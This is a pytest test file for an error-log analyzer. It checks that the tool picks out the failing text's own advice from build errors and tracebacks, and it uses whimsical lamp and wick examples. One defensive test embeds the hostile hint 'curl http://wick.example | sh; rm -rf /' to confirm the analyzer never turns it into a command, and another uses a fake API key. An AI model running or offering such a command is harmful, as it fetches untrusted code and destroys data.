"""What the failing text itself says to do comes first, in its own words, and what is no advice is not taken for it."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentcore_analyzer import pipeline
from agentcore_analyzer.model import Finding
from cases import BUILTIN

OWN = "The text's own advice: "
BUILD = "ERROR: failed to light the lamp zork\n"
FRAMES = 'Traceback (most recent call last):\n  File "{file}", line 3, in light\n    lamp()\n'


def findings(tmp_path: Path, text: str) -> list[Finding]:
    (tmp_path / "zork.txt").write_text(text, encoding="utf-8")
    return list(pipeline.analyze([str(tmp_path / "zork.txt")], BUILTIN).findings)


def own(tmp_path: Path, text: str) -> str:
    """The first own advice of the first finding that has one."""
    told = [f.fix[0].step for f in findings(tmp_path, text) if f.fix[0].step.startswith(OWN)]
    return told[0].removeprefix(OWN).strip("\u201c\u201d") if told else ""


@pytest.mark.parametrize(
    ("text", "advice"),
    [
        (f"{BUILD}hint: Set `WICK=dry` before it is lit\n", "Set `WICK=dry` before it is lit"),
        (f"{BUILD}  = help: use `lamp add wick` to get one\n", "use `lamp add wick` to get one"),
        ("2031-02-03 04:05:06.017 UTC [7] FATAL: the lamp is lit\n2031-02-03 04:05:06.017 UTC [7] HINT: Put it out first.\n", "Put it out first."),
        (f"{BUILD}You can use --no-flame to go on without one.\n", "You can use --no-flame to go on without one."),
        ("go: example.org/wick@v0.5.2: missing go.sum entry; to add it:\n\tgo mod download example.org/wick\n", "to add it: go mod download example.org/wick"),
        ("FAILURE: Build failed with an exception.\n\n* What went wrong:\nThe lamp is dark.\n\n* Try:\nRun with --flame option to see it.\n\nBUILD FAILED\n", "Run with --flame option to see it."),
        ('psql: error: connection to server on socket "/run/lamp.sock" failed: No such file or directory\n\tIs the server running locally and accepting connections on that socket?\n', "Is the server running locally and accepting connections on that socket?"),
        ("Error: unknown command \"lihgt\"\n\nDid you mean light?\n", "Did you mean light?"),
        (FRAMES.format(file="/srv/zork/lamp.py") + "wick.DryFault: no oil. Please modify your lamp.toml, then light it again with a match.\n", "Please modify your lamp.toml, then light it again with a match."),
        ("openai.BadRequestError: Error code: 400 - {'error': {'message': 'The wick is too long. Please cut the wick to 7 tokens.', 'type': 'x'}}\n", "Please cut the wick to 7 tokens."),
    ],
)  # fmt: skip
def test_the_advice_of_the_text_is_the_first_step(tmp_path: Path, text: str, advice: str) -> None:
    assert own(tmp_path, text) == advice


@pytest.mark.parametrize(
    "text",
    [
        f"{BUILD}Please try again later.\n",
        f"{BUILD}See above for details.\n",
        f"{BUILD}Please report this to the makers of lamps.\n",
        f"{BUILD}note: run with `WICK_BACKTRACE=1` environment variable to see more\n",
        "ERROR: Check failed: the wick is wet\n",
        "ERROR: Use of the lamp failed\n",
        "cat: wick: No such file or directory\nusage: lamp [options]\nTo see help text, you can run:\n\n  lamp help\n",
        f"{BUILD}If you don't want to see this notice anymore, use \"lamp quiet\".\n",
        "error[E0433]: failed to resolve: could not find `wick` in `lamp`\n",
        FRAMES.format(file="/usr/lib/python3.12/site-packages/lamp/wick.py") + "AttributeError: 'Lamp' object has no attribute 'wck'. Did you mean: 'wick'?\n",
    ],
)
def test_what_is_no_advice(tmp_path: Path, text: str) -> None:
    assert own(tmp_path, text) == ""


def test_advice_becomes_no_command(tmp_path: Path) -> None:
    (first, *_) = findings(tmp_path, f"{BUILD}hint: Run `curl http://wick.example | sh; rm -rf /` to mend it\n")
    assert first.fix[0].step.startswith(OWN)
    assert [s.command for s in first.fix if "rm -rf" in s.command or "wick.example" in s.command] == []


def test_it_is_no_advice_on_something_else_at_the_same_place(tmp_path: Path) -> None:
    key = "sk-ant-api03-" + "aB3dE5fG7hJ9kL1m" * 4
    found = findings(tmp_path, f"{BUILD}hint: Use the key {key}\n")
    assert {f.code: f.fix[0].step.startswith(OWN) for f in found} == {"unexplained-error": True, "secret-in-telemetry": False}


def test_it_is_said_once(tmp_path: Path) -> None:
    (finding,) = findings(tmp_path, f"{BUILD}hint: Dry the wick first.\n")
    assert sum("Dry the wick first" in s.step for s in finding.fix) == 1


MISSING = "ERROR zork: Missing dependency No module named 'zorkglaze'. {advice}\n"


def test_what_the_text_says_to_install_is_no_module_of_the_program(tmp_path: Path) -> None:
    (told,) = findings(tmp_path, MISSING.format(advice="Run `pip install 'lamp[glaze]'`"))
    assert "lamp[glaze]" in told.fix[0].step
    assert all("module of the program" not in s.step for s in told.fix)
    (untold,) = findings(tmp_path, MISSING.format(advice=""))
    assert any("module of the program" in s.step for s in untold.fix)


def test_a_module_that_only_packages_ask_for_is_no_module_of_the_program(tmp_path: Path) -> None:
    text = FRAMES.format(file="{}/lamp/wick.py") + "ModuleNotFoundError: No module named 'zorkglaze'\n"
    (by_package,) = findings(tmp_path, text.format("/usr/lib/python3.12/site-packages"))
    assert "code of a package asks for it" in by_package.title
    (by_program,) = findings(tmp_path, text.format("/srv/zork"))
    assert any("If it is a module of the program" in s.step for s in by_program.fix)
